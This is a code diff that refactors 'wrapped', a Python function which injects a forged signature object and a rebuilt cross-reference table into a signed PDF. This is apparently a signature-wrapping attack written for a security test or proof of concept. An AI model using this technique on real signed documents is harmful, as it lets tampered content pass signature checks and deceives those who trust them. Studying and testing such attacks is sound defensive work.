@@ -89,27 +89,40 @@ def wrapped(pdf: bytes) -> bytes:
     first, second, length = map(int, match.groups())
     number, dictionary = _signature_object(pdf)
     old_table = int(pdf[pdf.rindex(b"startxref") + 9 :].split()[0])
-    room = old_table - second
-    evil = bytearray(b"\n")
-    offset = second + len(evil)
-    wider = b"/ByteRange [0 %d %06d %d]" % (first, 0, length)
-    body = re.sub(BYTE_RANGE, wider, dictionary)
-    evil += b"%d 0 obj\n%s\nendobj\n" % (number, body)
-    assert len(evil) < room, "no room for the attacker's object"
-    evil = evil.ljust(room)
-    previous = int(re.findall(rb"/Prev (\d+)", pdf)[-1])
+    previous, size = (int(re.findall(key + rb" (\d+)", pdf)[-1]) for key in (rb"/Prev", rb"/Size"))
     root = re.findall(rb"/Root (\d+ \d+ R)", pdf)[-1]
-    size = int(re.findall(rb"/Size (\d+)", pdf)[-1])
-    evil += b"xref\n%d 1\n%010d 00000 n \ntrailer\n<</Size %d/Root %s/Prev %d>>\n" % (
-        number,
-        offset,
-        size,
-        root,
-        previous,
-    )
-    moved = second + len(evil)
-    evil = bytearray(bytes(evil).replace(b"%d %06d" % (first, 0), b"%d %06d" % (first, moved)))
-    return pdf[:second] + bytes(evil) + pdf[second:]
+    trailer = b"trailer\n<</Size %d/Root %s/Prev %d>>\n" % (size, root, previous)
+    wider = b"/ByteRange [0 %d %08d %d]"
+    body = b"%d 0 obj\n%s\nendobj\n" % (number, re.sub(BYTE_RANGE, wider % (first, 0, length), dictionary))
+    entries = _entries(pdf, old_table)
+    blank = b" " * (old_table - second)
+    shift = len(blank) + len(_table(entries)) + len(trailer) + len(body)
+    places = {one: at if at < second else at + shift for one, at in entries.items()}
+    places[number] = old_table + len(_table(entries)) + len(trailer)
+    body = body.replace(wider % (first, 0, length), wider % (first, second + shift, length))
+    evil = blank + _table(places) + trailer + body
+    assert len(evil) == shift
+    return pdf[:second] + evil + pdf[second:]
+
+
+def _entries(pdf: bytes, table: int) -> dict[int, int]:
+    """Where the objects of a cross-reference table lie."""
+    found: dict[int, int] = {}
+    lines = pdf[table : pdf.index(b"trailer", table)].split(b"\n")[1:]
+    number = 0
+    for line in filter(None, lines):
+        parts = line.split()
+        if len(parts) == 2:
+            number = int(parts[0])
+            continue
+        if parts[2] == b"n":
+            found[number] = int(parts[0])
+        number += 1
+    return found
+
+
+def _table(places: dict[int, int]) -> bytes:
+    return b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % place for place in sorted(places.items()))
 
 
 def _signature_object(pdf: bytes) -> tuple[int, bytes]:
